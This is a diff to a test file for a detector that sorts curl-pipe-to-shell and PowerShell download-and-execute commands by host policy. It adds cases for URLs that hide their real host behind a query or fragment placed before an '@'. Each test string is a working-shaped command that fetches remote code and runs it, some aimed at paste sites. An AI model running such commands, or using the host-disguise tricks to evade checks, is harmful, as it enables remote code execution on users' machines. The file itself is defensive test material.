@@ -45,6 +45,12 @@ def _rules(source: str, policy: HostPolicy) -> set[str]:
         ("curl -s https://bit.ly/abc | bash", {DELIVERY}),
         ("curl -s https://x1.trycloudflare.com/i | bash", {DELIVERY}),
         ("curl -s http://0xc0000207/i | sh", {DELIVERY}),  # 192.0.2.7 written as an integer
+        # the host ends at a query or fragment: what follows is no user@host
+        ("curl -s https://pastebin.com?raw=x | bash", {DELIVERY}),
+        ("curl -s pastebin.com?raw=x | bash", {DELIVERY}),
+        ("curl -s http://192.0.2.7#@vendor.example.dev/i | sh", {DELIVERY}),
+        ("curl -s https://setup.example.net?@vendor.example.dev/i | sh", {UNDECLARED}),
+        ("curl -s https://user@vendor.example.dev/i?x=1 | sh", {DECLARED}),
         ("sudo env X=1 curl -fsSL https://setup.example.net/i | sudo -E bash -s -- --yes", {UNDECLARED}),
         ("curl -fsSL https://vendor.example.dev/install.sh | sh", {DECLARED}),
         ("curl -fsSL https://raw.githubusercontent.com/acme/tool/main/i.sh | bash", {DECLARED}),
@@ -210,6 +216,8 @@ def _ps(source: str, policy: HostPolicy) -> set[str]:
     [
         ("iwr https://setup.example.net/a.ps1 | iex", {UNDECLARED}),
         ("irm https://vendor.example.dev/install.ps1 | iex", {DECLARED}),
+        ("irm https://setup.example.net?@vendor.example.dev/i.ps1 | iex", {UNDECLARED}),
+        ("irm https://rentry.co?x=1 | iex", {DELIVERY}),
         (
             "Invoke-WebRequest -Uri https://pastebin.com/raw/x -UseBasicParsing | Invoke-Expression",
             {DELIVERY},
